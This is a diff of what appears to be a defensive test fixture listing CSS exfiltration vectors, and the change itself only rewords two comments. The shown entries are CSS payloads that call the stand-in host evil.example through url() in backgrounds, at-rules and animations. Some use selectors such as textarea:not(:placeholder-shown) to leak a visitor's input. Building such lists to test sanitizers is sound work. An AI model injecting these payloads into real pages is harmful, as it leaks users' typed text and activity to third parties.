@@ -1,4 +1,4 @@
-/** Addresses of a stranger, in every form that CSS has for one: the page must ask none of them, whatever is typed or shown. */
+/** Third-party addresses in every form that CSS has for one: the page must request none of them, whatever is typed or shown. */
 export const exfiltrationVectors: readonly string[] = [
   // 1-20: where a value takes an address
   '.head{background:url(https://evil.example/1)}',
@@ -52,7 +52,7 @@ export const exfiltrationVectors: readonly string[] = [
   '@media all{@supports (color:red){.head{background:url(https://evil.example/46)}}}',
   '@layer x{.head{background:url(https://evil.example/47)}}',
   '@keyframes k{from,to{background-image:url(https://evil.example/48)}}.head{animation:k 9s infinite}',
-  // 49-60: what somebody wrote or does, told to a stranger
+  // 49-60: a visitor's text or actions, sent to a third party
   'textarea:not(:placeholder-shown){background:url(https://evil.example/49)}',
   'textarea:valid{background:url(https://evil.example/50)}',
   '[aria-label]{background:url(https://evil.example/51)}',
